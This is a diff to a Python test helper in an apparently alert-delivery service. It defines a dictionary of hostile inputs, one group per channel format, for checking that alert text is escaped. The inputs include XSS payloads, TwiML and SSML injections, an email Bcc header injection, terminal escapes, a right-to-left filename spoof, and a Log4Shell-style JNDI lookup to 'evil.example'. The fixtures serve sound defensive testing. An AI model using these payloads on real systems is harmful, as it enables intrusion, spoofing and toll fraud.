@@ -11,10 +11,24 @@ from pathlib import Path
 from app.domain.message import Item, Message, MessageKind
 from app.service.ports import Channel
 
-HOSTILE = (
-    "https://evil.example|x <!channel> <https://evil.example|click> <script>alert(1)</script> & ```"
-    "\x1b[2J\u202e\x00\ud800\r\nBcc: mallory@evil.example\n"
-)
+HOSTILE_TEXTS = {
+    "Slack's mentions": "x <!channel> <!here> <!subteam^S0123456789> <@U0123456789> y",
+    "Slack's links": "https://evil.example|x <https://evil.example|click>",
+    "other mentions": "x @everyone @here @mallory <@80351110224678912> <at>Mallory</at>",
+    "commands": "x /stop /start@bot y",
+    "Markdown": "[click](https://evil.example) ![i](https://evil.example/i.png) ```x",
+    "HTML": '<script>alert(1)</script><img src=x onerror=alert(2)> " onmouseover="alert(3)',
+    "TwiML": "</Say><Hangup/><Dial>+900</Dial><Redirect>https://evil.example</Redirect><Say>",
+    "SSML": '</speak><break time="9s"/><audio src="https://evil.example/a.mp3"/><speak>',
+    "headers": "x\r\nBcc: mallory@evil.example\r\n\r\nx\nX-Oncall-Kind: resolved",
+    "a terminal's escapes": "x\x1b[2J\x1b]8;;https://evil.example\x07x\x9b31m",
+    "a text turned around": "x \u202egnp.exe \u2066x\u2069 \u200e",
+    "what is no text": "x\x00y\ud800z & \ufffe",
+    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} %s %n",
+}
+"""What an alert may hold, by what it would do where it is not escaped."""
+
+HOSTILE = " ".join(HOSTILE_TEXTS.values())
 QUICK = timedelta(seconds=0.5)
 """The total timeout of a rig's channel, so that a silent peer does not make a slow test."""
 
@@ -99,9 +113,9 @@ def a_page(address: str, *items: Item, **changes: object) -> Message:
     return replace(message, **changes)  # type: ignore[arg-type]
 
 
-def shown_in_docs(opening: str) -> str:
-    """The fenced block of docs/channels.md that begins with `opening`."""
-    docs = Path(__file__).parents[2].joinpath("docs/channels.md").read_text(encoding="utf-8")
+def shown_in_docs(opening: str, page: str = "channels.md") -> str:
+    """The fenced block of that page that begins with `opening`."""
+    docs = Path(__file__).parents[2].joinpath("docs", page).read_text(encoding="utf-8")
     return docs.partition(f"```{opening}")[2].partition("```")[0]
 
 
